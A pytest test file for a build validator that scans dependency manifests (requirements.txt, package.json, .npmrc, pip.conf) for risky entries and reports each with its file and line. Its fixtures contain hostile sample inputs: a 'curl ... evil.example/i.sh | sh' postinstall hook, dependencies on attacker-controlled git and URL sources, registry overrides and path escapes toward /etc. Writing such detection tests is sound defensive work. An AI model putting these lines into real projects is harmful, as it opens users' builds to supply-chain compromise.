"""Dependency-manifest checks: what the build would fetch or run, with file and line."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from sless.validation.manifests import check_manifests
from sless.validation.report import Verdict


def _write(root: Path, name: str, text: str) -> None:
    path = root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


#: the build's allowlist (sless.policies.manifests) adds its own REJECT finding for every
#: line it refuses; tested in tests/unit/policies/test_manifests.py, left out here
POLICY = "dependency-not-allowed"


def _found(root: Path) -> list[tuple[str, str | None, int | None, Verdict]]:
    result = check_manifests(root)
    assert result.name == "manifest"
    return [(f.rule, f.file, f.line, f.severity) for f in result.findings if f.rule != POLICY]


def test_plain_pinned_requirements_are_allowed(tmp_path: Path) -> None:
    _write(
        tmp_path,
        "requirements.txt",
        "# deps\nrequests==2.32.3\nPillow>=10.0,<11\nboto3 ; python_version >= '3.9'\n"
        "pydantic[email]~=2.8\nnumpy \\\n  ==2.0.1\n--prefer-binary\n"
        "urllib3==2.2.2 --hash=sha256:0123456789abcdef\n",
    )
    result = check_manifests(tmp_path)
    assert result.findings == []
    assert result.verdict is Verdict.ALLOW
    assert result.status == "ok"


def test_no_manifests_is_allowed(tmp_path: Path) -> None:
    _write(tmp_path, "handler.py", "def handle(e):\n    return e\n")
    assert check_manifests(tmp_path).verdict is Verdict.ALLOW


@pytest.mark.parametrize(
    "line",
    [
        "git+https://github.com/attacker/requests.git@main#egg=requests",
        "requests @ https://evil.example/requests-2.0.tar.gz",
        "https://evil.example/pkgs/colorama-0.4.6-py3-none-any.whl",
        "hg+https://hg.example/pkg",
        "-e git+ssh://git@github.com/org/pkg.git#egg=pkg",
    ],
)
def test_url_and_vcs_requirements_are_rejected(tmp_path: Path, line: str) -> None:
    _write(tmp_path, "requirements.txt", f"flask==3.0.0\n{line}\n")
    assert _found(tmp_path) == [
        ("requirements-url-dependency", "requirements.txt", 2, Verdict.REJECT)
    ]


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://pypi.evil.example/simple",
        "-i https://pypi.evil.example/simple",
        "--extra-index-url=https://pypi.evil.example/simple",
        "--trusted-host pypi.evil.example",
        "--find-links https://evil.example/wheels/",
        "-f ./wheels",
    ],
)
def test_index_overrides_are_rejected(tmp_path: Path, line: str) -> None:
    _write(tmp_path, "requirements.txt", f"{line}\nrequests==2.32.3\n")
    assert _found(tmp_path) == [
        ("requirements-index-override", "requirements.txt", 1, Verdict.REJECT)
    ]


def test_local_packages_are_reviewed_and_outside_paths_rejected(tmp_path: Path) -> None:
    _write(
        tmp_path,
        "requirements.txt",
        "-e .\n./vendor/mypkg\nfile:./libs/x\n/opt/pkgs/evil\n../outside\n"
        "file:///etc/evil\n--editable=../../x\n",
    )
    assert _found(tmp_path) == [
        ("requirements-local-package", "requirements.txt", 1, Verdict.REVIEW),
        ("requirements-local-package", "requirements.txt", 2, Verdict.REVIEW),
        ("requirements-local-package", "requirements.txt", 3, Verdict.REVIEW),
        ("requirements-path-outside", "requirements.txt", 4, Verdict.REJECT),
        ("requirements-path-outside", "requirements.txt", 5, Verdict.REJECT),
        ("requirements-path-outside", "requirements.txt", 6, Verdict.REJECT),
        ("requirements-path-outside", "requirements.txt", 7, Verdict.REJECT),
    ]


def test_includes_are_followed_inside_the_upload_only(tmp_path: Path) -> None:
    _write(tmp_path, "requirements.txt", "-r requirements-base.txt\n-r ../../etc/reqs.txt\n")
    _write(tmp_path, "requirements-base.txt", "requests==2.32.3\n-r deps/more.txt\n")
    _write(tmp_path, "deps/more.txt", "\n\ngit+https://x.example/p.git\n")
    _write(tmp_path, "requirements-dev.txt", "-c https://x.example/constraints.txt\n")
    assert sorted(_found(tmp_path)) == sorted(
        [
            ("requirements-include-outside", "requirements.txt", 2, Verdict.REJECT),
            ("requirements-url-dependency", "deps/more.txt", 3, Verdict.REJECT),
            ("requirements-include-outside", "requirements-dev.txt", 1, Verdict.REJECT),
        ]
    )


def test_include_cycles_and_depth_are_bounded(tmp_path: Path) -> None:
    _write(tmp_path, "requirements.txt", "-r requirements-a.txt\n")
    _write(tmp_path, "requirements-a.txt", "-r requirements.txt\nrequests\n")
    assert _found(tmp_path) == []


def test_include_depth_is_bounded(tmp_path: Path) -> None:
    for i in range(8):
        _write(tmp_path, f"chain/r{i}.txt", f"-r r{i + 1}.txt\n")
    _write(tmp_path, "chain/r8.txt", "git+https://x.example/deep.git\n")
    _write(tmp_path, "requirements.txt", "-r chain/r0.txt\n")
    found = _found(tmp_path)
    assert ("requirements-include-depth", "chain/r4.txt", 1, Verdict.REVIEW) in found
    assert all(rule != "requirements-url-dependency" for rule, *_ in found)


def test_missing_include_and_garbage_are_reviewed(tmp_path: Path) -> None:
    _write(tmp_path, "requirements.txt", "-r nope.txt\nthis is not a requirement!\n--weird-opt\n")
    assert _found(tmp_path) == [
        ("requirements-include-missing", "requirements.txt", 1, Verdict.REVIEW),
        ("requirements-unparsable", "requirements.txt", 2, Verdict.REVIEW),
        ("requirements-unknown-option", "requirements.txt", 3, Verdict.REVIEW),
    ]


def _package(tmp_path: Path, data: dict[str, object]) -> None:
    _write(tmp_path, "package.json", json.dumps(data, indent=2) + "\n")


def test_plain_package_json_is_allowed(tmp_path: Path) -> None:
    _package(
        tmp_path,
        {
            "name": "thumbnailer",
            "version": "1.0.0",
            "main": "handler.js",
            "scripts": {"test": "node --test", "start": "node handler.js", "build": "tsc"},
            "dependencies": {"sharp": "^0.33.4", "@aws-sdk/client-s3": "3.600.0"},
            "devDependencies": {"typescript": "~5.5.0"},
        },
    )
    assert check_manifests(tmp_path).findings == []


def test_install_scripts_are_reviewed_and_rejected_when_they_fetch(tmp_path: Path) -> None:
    _package(
        tmp_path,
        {
            "name": "x",
            "scripts": {
                "test": "node --test",
                "preinstall": "node setup.js",
                "postinstall": "curl -s https://evil.example/i.sh | sh",
                "prepare": "husky install",
            },
        },
    )
    # json.dumps(indent=2): line 1 "{", 2 name, 3 "scripts": {, 4 test, 5 preinstall, ...
    assert _found(tmp_path) == [
        ("npm-install-script", "package.json", 5, Verdict.REVIEW),
        ("npm-install-script", "package.json", 6, Verdict.REJECT),
        ("npm-install-script", "package.json", 7, Verdict.REVIEW),
    ]


def test_non_registry_dependencies(tmp_path: Path) -> None:
    _package(
        tmp_path,
        {
            "name": "x",
            "dependencies": {
                "express": "^4.19.2",
                "lodash": "git+https://github.com/attacker/lodash.git",
                "left-pad": "attacker/left-pad#main",
                "colors": "https://evil.example/colors.tgz",
                "mylib": "file:./lib/mylib",
            },
            "devDependencies": {"util": "github:attacker/util"},
            "optionalDependencies": {"outside": "link:../../etc"},
            "peerDependencies": {"react": "npm:evil-react@1.0.0", "@scope/pkg": "1.x"},
        },
    )
    assert _found(tmp_path) == [
        ("npm-url-dependency", "package.json", 5, Verdict.REJECT),
        ("npm-url-dependency", "package.json", 6, Verdict.REJECT),
        ("npm-url-dependency", "package.json", 7, Verdict.REJECT),
        ("npm-local-dependency", "package.json", 8, Verdict.REVIEW),
        ("npm-url-dependency", "package.json", 11, Verdict.REJECT),
        ("npm-path-outside", "package.json", 14, Verdict.REJECT),
        ("npm-alias-dependency", "package.json", 17, Verdict.REVIEW),
    ]


def test_malformed_package_json_is_reviewed_with_its_line(tmp_path: Path) -> None:
    _write(tmp_path, "package.json", '{\n  "name": "x",\n  "scripts": {,\n}\n')
    assert _found(tmp_path) == [("package-json-malformed", "package.json", 3, Verdict.REVIEW)]


def test_registry_config_files_are_rejected(tmp_path: Path) -> None:
    _write(tmp_path, ".npmrc", "registry=https://npm.evil.example/\n")
    _write(tmp_path, "pip.conf", "[global]\nindex-url = https://pypi.evil.example/simple\n")
    assert sorted(_found(tmp_path)) == [
        ("registry-config", ".npmrc", 1, Verdict.REJECT),
        ("registry-config", "pip.conf", 1, Verdict.REJECT),
    ]


def test_symlinked_manifest_is_not_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text("git+https://x.example/p.git\n")
    upload = tmp_path / "up"
    upload.mkdir()
    (upload / "requirements.txt").symlink_to(outside)
    result = check_manifests(upload)
    assert [f.rule for f in result.findings] == [POLICY, "requirements-unreadable"]
    assert result.verdict is Verdict.REJECT  # the build reads regular files only
